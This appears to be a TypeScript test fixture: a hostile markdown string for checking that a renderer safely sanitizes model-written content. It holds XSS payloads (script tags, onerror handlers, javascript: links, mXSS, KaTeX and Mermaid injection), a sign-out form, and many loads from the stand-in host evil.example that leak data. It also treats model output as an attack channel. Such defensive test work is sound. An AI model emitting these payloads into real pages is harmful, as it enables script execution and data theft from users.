/** What a model might write, by its own will or another's, to act on the page instead of appearing on it. */
export const hostileMarkdown = `---
title: front matter that must not vanish
---

<script>window.breached = 'script'</script>
<img src=x onerror="window.breached = 'onerror'">
<svg onload="window.breached = 'svg'"><a href="javascript:window.breached='a'">x</a></svg>
<iframe srcdoc="<script>parent.breached = 'iframe'</script>"></iframe>
<style>body { display: none }</style>
<form action="/api/auth/sign-out"><button>Log out</button></form>

[script link](javascript:window.breached='link') [entity](jav&#x61;script:window.breached='entity') [data](data:text/html,<script>alert(1)</script>)
[own api](/api/auth/sign-out) [protocol relative](//evil.example/steal) [broken](%E0%A4%A) [vb](vbscript:msgbox)

![pixel](https://evil.example/pixel.png?secret=1 "title") ![data](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)

::u-button{to="/dashboard" onclick="window.breached = 'component'"}
Component
::

:icon{name="i-lucide-x"} [span]{style="position:fixed;inset:0" onclick="window.breached='span'"} **bold**{onmouseover="window.breached='bold'"}

# Heading {#main .sr-only onclick="window.breached='heading'"}

| a | b |
|---|---|
| <img src=x onerror="window.breached='cell'"> | [x](javascript:window.breached='cell') |

\`\`\`html"><img src=x onerror="window.breached='language'">
</code></pre><script>window.breached = 'code'</script>
\`\`\`

{{ constructor.constructor("window.breached = 'template'")() }} \${window.breached}

${[
  '<link rel="stylesheet" href="https://evil.example/link.css">', '<link rel="prefetch" href="https://evil.example/prefetch">', '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
  '<base href="https://evil.example/">', '<video poster="https://evil.example/poster.png"></video>', '<audio src="https://evil.example/a.mp3" autoplay></audio>', '<object data="https://evil.example/o"></object>',
  '<embed src="https://evil.example/e">', '<input type="image" src="https://evil.example/i.png">', '<table background="https://evil.example/t.png"></table>', '<svg><image href="https://evil.example/si.png"/></svg>',
  '<svg><use href="https://evil.example/use.svg#x"/></svg>', '<style>@import "https://evil.example/import.css";</style>', '<div style="background:url(https://evil.example/bg.png)">x</div>',
  '<img srcset="https://evil.example/set.png 2x">', '<picture><source srcset="https://evil.example/source.png"><img></picture>', '<a href="https://evil.example/" ping="https://evil.example/ping">x</a>',
  '<details open ontoggle="window.breached=\'toggle\'">x</details>', '<math><mtext></form><form><mglyph><style></math><img src onerror="window.breached=\'mxss\'">', '<noscript><p title="</noscript><img src=x onerror=window.breached=\'noscript\'>">',
  '<form><button formaction="javascript:window.breached=\'formaction\'">x</button></form>', '<marquee onstart="window.breached=\'marquee\'">x</marquee>', '<script src="https://evil.example/s.js"></script>'
].join('\n\n')}

![reference][far] ![](//evil.example/relative.png) ![](https:evil.example/loose.png) ![](\\\\evil.example\\unc.png) ![a](<https://evil.example/angle.png>)
[![picture in a link](https://evil.example/inner.png)](https://evil.example/outer) [*![deeper](https://evil.example/deeper.png)*](https://evil.example/outer)

[far]: https://evil.example/reference.png "title"

$\\href{javascript:window.breached='href'}{x}$ $\\url{https://evil.example/url}$ $\\includegraphics{https://evil.example/tex.png}$ $\\htmlStyle{background:url(https://evil.example/style)}{x}$
$\\htmlData{x=y}{x}$ $\\htmlClass{fixed inset-0}{x}$ $<img src=x onerror=window.breached='tex'>$ $x\\kern{-9999em}\\rule{9999em}{9999em}$ $\\text{</span><script>window.breached='text'</script>}$

$$
\\def\\a{\\a\\a}\\a
$$

${[
  'graph TD\n  A["<img src=\'https://evil.example/m.png\' onerror=\'window.breached=1\'>"] --> B',
  'graph TD\n  A --> B\n  click A "javascript:window.breached=\'click\'"\n  click B call alert()',
  '%%{init: {"securityLevel": "loose", "themeCSS": "* { background: url(https://evil.example/theme) }"}}%%\ngraph TD\n  A["<script>window.breached=\'init\'</script>"] --> B',
  '---\nconfig:\n  securityLevel: loose\n  themeCSS: "* { fill: url(https://evil.example/front) }"\n---\ngraph TD\n  A --> B',
  'graph TD\n  A --> B\n  style A fill:url(https://evil.example/fill)',
  'graph TD\n  A --> B\n  classDef evil background:u\\72l(https://evil.example/escape)\n  class A evil',
  'flowchart TD\n  A@{ img: "https://evil.example/shape.png", label: "x" }',
  'sequenceDiagram\n  Alice->>Bob: <svg onload=window.breached=\'sequence\'>\n  link Alice: Dashboard @ javascript:window.breached=1',
  'this is { no diagram'
].map(source => `\`\`\`mermaid\n${source}\n\`\`\``).join('\n\n')}

The end of it.
`
